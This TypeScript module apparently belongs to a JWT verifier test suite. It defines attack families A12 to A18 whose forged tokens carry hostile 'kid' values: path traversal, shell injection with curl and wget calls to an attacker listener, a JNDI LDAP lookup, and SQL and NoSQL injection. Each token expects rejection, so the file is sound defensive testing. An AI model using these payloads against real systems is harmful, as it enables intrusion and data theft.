import { attempts, type Family, type Forge, type Outcome } from '../forge';

/** Tokens whose `kid` is one of `kids`, signed with what whoever looks there is hoped to find. */
const named = (
  { mac, foreign }: Forge,
  kids: readonly string[],
  secrets: readonly string[] = ['\u0000'],
): Promise<readonly { name: string; token: string; codes: readonly Outcome[] }[]> =>
  attempts(
    kids.flatMap((kid) => [
      ...secrets.map((secret, at) => [`${kid} with secret ${at}`, mac({ kid }, secret), 'unknown_key'] as const),
      [`${kid} with a key of its own`, foreign('ES256', { kid }), 'unknown_key'] as const,
    ]),
  );

/** A12 to A18: what a `kid` can name besides a key of ours. */
export const KEY_NAMES: readonly Family[] = [
  {
    id: 'A12',
    attack: 'An empty kid, signed with the null byte.',
    tokens: (forge) => named(forge, ['', ' ', '\u0000', `${forge.header['kid']}\u0000`]),
  },
  {
    id: 'A13',
    attack: 'A kid that climbs to /dev/null, signed with what a reader finds there.',
    tokens: (forge) =>
      named(forge, [
        '../../../../../../dev/null',
        '..\\..\\..\\..\\dev\\null',
        '....//....//....//dev/null',
        '%2e%2e%2f%2e%2e%2fdev%2fnull',
        `../../../../../../../../..${forge.trap}`,
        `../../../../../../../../..${forge.trap}\u0000.pem`,
      ]),
  },
  {
    id: 'A14',
    attack: 'A kid that is the path of an empty file.',
    tokens: (forge) => named(forge, ['/dev/null', '/dev/zero', 'file:///dev/null', forge.trap, `file://${forge.trap}`]),
  },
  {
    id: 'A15',
    attack: 'A kid that is the path of no file: 401, and no 500.',
    tokens: (forge) => named(forge, ['/invalid_path', '/proc/self/environ', './package.json', 'C:\\invalid', '/', '~']),
  },
  {
    id: 'A16',
    attack: 'A kid that a shell would wait for.',
    tokens: (forge) =>
      named(forge, ['|sleep 10', ';sleep 10;', '$(sleep 10)', '`sleep 10`', '&& sleep 10', '\nsleep 10']),
  },
  {
    id: 'A17',
    attack: 'A kid that would make a shell, or whoever loads it, call the attacker.',
    tokens: (forge) =>
      named(forge, [
        `| curl ${forge.listener}`,
        `$(curl ${forge.listener})`,
        `;wget ${forge.listener};`,
        forge.listener,
        `${forge.listener}/key.pem`,
        `\${jndi:ldap://${new URL(forge.listener).host}/a}`,
      ]),
  },
  {
    id: 'A18',
    attack: 'A kid with SQL in it, signed with the key that it makes a database answer.',
    tokens: (forge) =>
      named(
        forge,
        [
          "x' UNION SELECT '1';--",
          "x' UNION SELECT '1' --",
          "' OR ''='",
          "x'; SELECT pg_sleep(10);--",
          `${forge.header['kid']}' --`,
          '{"$ne":null}',
        ],
        ['1', '\u0000'],
      ),
  },
];
